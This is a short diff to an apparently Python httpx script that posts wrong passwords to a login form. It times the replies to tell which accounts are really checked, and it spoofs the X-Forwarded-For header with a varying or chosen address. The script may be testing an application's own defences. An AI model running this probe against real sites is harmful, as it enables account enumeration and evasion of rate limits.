@@ -21,9 +21,12 @@ async def second_form(client: httpx.AsyncClient, email: str) -> dict[str, str]:
     return {"csrf": form_token(await client.get(PASSWORD)), "email": email}
 
 
-async def guess(client: httpx.AsyncClient, form: dict[str, str]) -> tuple[int, float]:
-    """The status of the answer, and how long it took in seconds. 422: the password was really compared."""
-    headers = {"X-Forwarded-For": a_network()}
+async def guess(client: httpx.AsyncClient, form: dict[str, str], network: str = "") -> tuple[int, float]:
+    """The status of the answer, and how long it took in seconds. 422: the password was really compared.
+
+    `network`: where it comes from; another each time when none is given.
+    """
+    headers = {"X-Forwarded-For": network or a_network()}
     began = time.perf_counter()
     answer = await client.post(PASSWORD, data=form | {"password": WRONG}, headers=headers)
     return answer.status_code, time.perf_counter() - began
